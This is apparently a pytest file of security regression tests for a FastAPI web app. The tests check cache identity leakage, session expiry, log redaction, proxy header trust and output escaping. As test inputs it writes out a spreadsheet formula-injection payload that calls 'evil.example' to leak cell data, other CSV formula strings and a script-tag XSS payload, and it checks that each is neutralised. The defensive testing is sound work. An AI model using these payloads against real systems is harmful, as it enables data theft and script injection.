"""Defects found by attacking the web app (issue 14), each with the test that failed before its fix: cached pages
that carried the first viewer's identity, locked accounts reading on, a cache grown by junk parameters."""

from __future__ import annotations

import csv
import io
import re
import shutil
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from jamsos.auth import service as auth
from jamsos.infra.db import make_engine, unit_of_work
from jamsos.infra.settings import Settings
from jamsos.web.app import create_app
from tests.conftest import Clock, serving
from tests.web.conftest import CLOCK, PASSWORD

pytestmark = pytest.mark.web


@dataclass
class Site:
    app: object
    db_url: str
    login: Callable[[str], TestClient]
    clock: Clock


def _csrf(html: str) -> str:
    found = re.search(r'name="csrf" value="([^"]+)"', html)
    assert found is not None, "no CSRF token on the page"
    return found.group(1)


@pytest.fixture
def site(sqlite_template: Path, nation_template: Path, tmp_path: Path) -> Iterator[Site]:
    db = tmp_path / "jamsos.db"
    shutil.copy(sqlite_template, db)
    url = f"sqlite:///{db}"
    engine = make_engine(url)
    with unit_of_work(engine) as s:
        auth.create_user(s, username="admin", password=PASSWORD, role="admin", created_at=CLOCK)
        auth.create_user(s, username="kc", password=PASSWORD, role="branch", branch="KC-TERNATE", created_at=CLOCK)
    engine.dispose()
    settings = Settings(
        database_url=url,
        secret_key="hardening",
        pseudonym_key="hardening",
        login_attempts_per_minute=1000,
        web_page_cache_bytes=2_000_000,
    )
    clock = Clock(CLOCK)
    app = create_app(settings, warehouse=nation_template, clock=clock, warm=False)

    def login(user: str) -> TestClient:
        client = TestClient(app)
        token = _csrf(client.get("/masuk").text)
        r = client.post("/masuk", data={"username": user, "password": PASSWORD, "csrf": token}, follow_redirects=False)
        assert r.status_code == 303, r.text
        return client

    yield Site(app, url, login, clock)


def test_a_cached_page_shows_each_viewer_their_own_header_and_token(site: Site) -> None:
    admin = site.login("admin")
    first = admin.get("/nasional")
    assert "admin (admin)" in first.text and 'href="/admin/audit"' in first.text
    kc = site.login("kc")
    second = kc.get("/nasional")
    assert second.status_code == 200
    assert site.app.state.steering.hits >= 1  # type: ignore[attr-defined]  # the body came from the cache
    assert "kc (branch)" in second.text
    assert "admin (admin)" not in second.text and 'href="/admin/audit"' not in second.text
    assert _csrf(second.text) != _csrf(first.text)
    # the token on the page is the viewer's own: their logout is accepted
    out = kc.post("/keluar", data={"csrf": _csrf(second.text)}, follow_redirects=False)
    assert out.status_code == 303 and out.headers["location"] == "/masuk"


def test_a_locked_account_stops_reading_cached_pages(site: Site) -> None:
    kc = site.login("kc")
    assert kc.get("/nasional").status_code == 200
    engine = make_engine(site.db_url)
    with unit_of_work(engine) as s:
        auth.set_active(s, username="kc", active=False)
    engine.dispose()
    r = kc.get("/nasional", follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"].startswith("/masuk")


def test_junk_query_parameters_do_not_grow_the_cache(site: Site) -> None:
    admin = site.login("admin")
    admin.get("/nasional")
    steering = site.app.state.steering  # type: ignore[attr-defined]
    kept = steering.page_bytes
    for i in range(30):
        r = admin.get(f"/nasional?junk{i}={'x' * 500}")
        assert r.status_code == 200 and f"junk{i}" not in r.text  # nor does a junk parameter reach the links
    assert steering.page_bytes == kept


def test_the_page_cache_is_bounded_in_bytes(site: Site) -> None:
    admin = site.login("admin")
    steering = site.app.state.steering  # type: ignore[attr-defined]
    for n in range(1, 40):  # forty distinct, valid pages
        assert admin.get(f"/strategi?min_workers={n}").status_code == 200
    assert 0 < steering.page_bytes <= 2_000_000


FORMULAS = ['=HYPERLINK("http://x","y")', "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


def test_text_cells_never_become_formulas_in_downloads() -> None:
    from io import BytesIO

    from openpyxl import load_workbook

    from jamsos.web.tables import Column, Table

    table = Table("t", "t", [Column("name"), Column("amount", "int")], [{"name": f, "amount": -5} for f in FORMULAS])
    sheet = load_workbook(BytesIO(table.to_xlsx("id"))).worksheets[0]
    cells = [row for row in sheet.iter_rows(min_row=2)]
    # the text as it was (an XML reader reads a bare carriage return as a line feed) ...
    assert [c[0].value for c in cells] == [f.replace("\r", "\n") for f in FORMULAS]
    assert {c[0].data_type for c in cells} == {"s"} and all(c[0].quotePrefix for c in cells)  # ... never a formula
    assert {c[1].value for c in cells} == {-5}  # numbers stay numbers
    csv_rows = list(csv.reader(io.StringIO(table.to_csv("id").decode("utf-8-sig"), newline="")))[1:]
    assert [r[0] for r in csv_rows] == ["'" + f for f in FORMULAS] and {r[1] for r in csv_rows} == {"-5"}


def test_a_formula_typed_as_a_user_name_does_not_reach_the_audit_export(site: Site) -> None:
    anonymous = TestClient(site.app)
    token = _csrf(anonymous.get("/masuk").text)
    typed = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    assert anonymous.post("/masuk", data={"username": typed, "password": "x", "csrf": token}).status_code == 401
    admin = site.login("admin")
    page = admin.get("/admin/audit")
    assert "HYPERLINK" not in page.text  # an unknown name typed at the login is not written down at all
    assert "login_failed" in page.text
    export = admin.get("/admin/audit?format=csv").content.decode("utf-8-sig")
    assert "HYPERLINK" not in export


def test_logs_hold_no_search_no_nik_in_a_traceback_and_no_sql_parameters(
    site: Site, caplog: pytest.LogCaptureFixture
) -> None:
    import logging

    from sqlalchemy import text

    nik = "8271011708850001"
    access = logging.getLogger("uvicorn.access")  # uvicorn's own configuration stops it propagating
    access.addHandler(caplog.handler)
    with caplog.at_level(logging.INFO):
        access.setLevel(logging.INFO)
        access.info(
            '%s - "%s %s HTTP/%s" %d', "127.0.0.1:5000", "GET", "/ops?q=Budi+Santoso&period=2024-12", "1.1", 200
        )
        access.removeHandler(caplog.handler)
        try:
            raise ValueError(f"no worker with NIK {nik}")
        except ValueError:
            logging.getLogger("jamsos.anything").exception("a request failed")
    assert "Budi" not in caplog.text and "q=***&period=2024-12" in caplog.text
    assert nik not in caplog.text and "8271********0001" in caplog.text  # the traceback's text too
    engine = make_engine(site.db_url)
    with pytest.raises(Exception) as failed, engine.connect() as c:
        c.execute(text("INSERT INTO app_user (username) VALUES (:secret)"), {"secret": "Siti Aminah 1985-08-17"})
    engine.dispose()
    assert "Siti" not in str(failed.value) and "parameters hidden" in str(failed.value)


def test_logout_ends_the_session_on_the_server_and_sessions_have_a_lifetime(site: Site) -> None:
    kc = site.login("kc")
    page = kc.get("/nasional")
    copied = dict(kc.cookies)
    assert kc.post("/keluar", data={"csrf": _csrf(page.text)}, follow_redirects=False).status_code == 303
    thief = TestClient(site.app, cookies=copied)  # the cookie copied before the logout is worth nothing now
    r = thief.get("/nasional", follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"].startswith("/masuk")
    again = site.login("kc")
    for _ in range(9):  # active all along, one request every 50 minutes: the session still ends at 8 hours
        site.clock.advance(minutes=50)
        assert again.get("/ops", follow_redirects=False).status_code == 200
    site.clock.advance(minutes=31)
    assert again.get("/ops", follow_redirects=False).status_code == 303
    idle = site.login("kc")
    site.clock.advance(minutes=61)  # an hour without a request ends it too
    assert idle.get("/ops", follow_redirects=False).status_code == 303


def test_a_forwarded_address_is_believed_only_from_a_configured_proxy(site: Site) -> None:
    import httpx
    from sqlalchemy import select

    from jamsos.auth import tables as at
    from jamsos.cli.store import uvicorn_options

    # served as jamsos serve runs it, with no proxy configured
    with serving(site.app, **uvicorn_options(Settings())) as url, httpx.Client(base_url=url) as c:
        token = _csrf(c.get("/masuk").text)
        form = {"username": "kc", "password": "wrong", "csrf": token}
        c.post("/masuk", data=form, headers={"X-Forwarded-For": "203.0.113.66"})
    engine = make_engine(site.db_url)
    with unit_of_work(engine) as s:
        sources = s.scalars(select(at.audit_log.c.source).where(at.audit_log.c.action == "login_failed")).all()
    engine.dispose()
    assert sources == ["web:127.0.0.1"]  # not the address the client claimed
    assert uvicorn_options(Settings(trusted_proxies="10.0.0.5"))["forwarded_allow_ips"] == "10.0.0.5"


def test_a_name_in_chart_data_cannot_end_its_script_element(
    sqlite_template: Path, nation_template: Path, tmp_path: Path
) -> None:
    """Chart labels come from the data (a Kanwil's name in the office map): they were put into a <script>
    element unescaped, so a name holding "</script>" could inject HTML."""
    import pyarrow.parquet as pq

    nation = Path(shutil.copytree(nation_template, tmp_path / "nation"))
    offices = next((nation / "offices").glob("*.parquet"))
    table = pq.read_table(offices)
    evil = "Sulama</script><script>alert(1)</script>"
    names = [
        evil if k == "sulama" else n
        for k, n in zip(table["kanwil_code"].to_pylist(), table["kanwil_name"].to_pylist(), strict=True)
    ]
    pq.write_table(table.set_column(table.schema.get_field_index("kanwil_name"), "kanwil_name", [names]), offices)
    db = tmp_path / "jamsos.db"
    shutil.copy(sqlite_template, db)
    engine = make_engine(f"sqlite:///{db}")
    with unit_of_work(engine) as s:
        auth.create_user(s, username="pusat", password=PASSWORD, role="head_office", created_at=CLOCK)
    engine.dispose()
    app = create_app(Settings(database_url=f"sqlite:///{db}", secret_key="x", pseudonym_key="x"), warehouse=nation,
                     clock=lambda: CLOCK, warm=False)  # fmt: skip
    client = TestClient(app)
    token = _csrf(client.get("/masuk").text)
    client.post("/masuk", data={"username": "pusat", "password": PASSWORD, "csrf": token})
    page = client.get("/wilayah").text
    assert "<script>alert(1)</script>" not in page
    assert "\\u003c/script\\u003e\\u003cscript\\u003ealert(1)" in page  # still there, as text for the chart
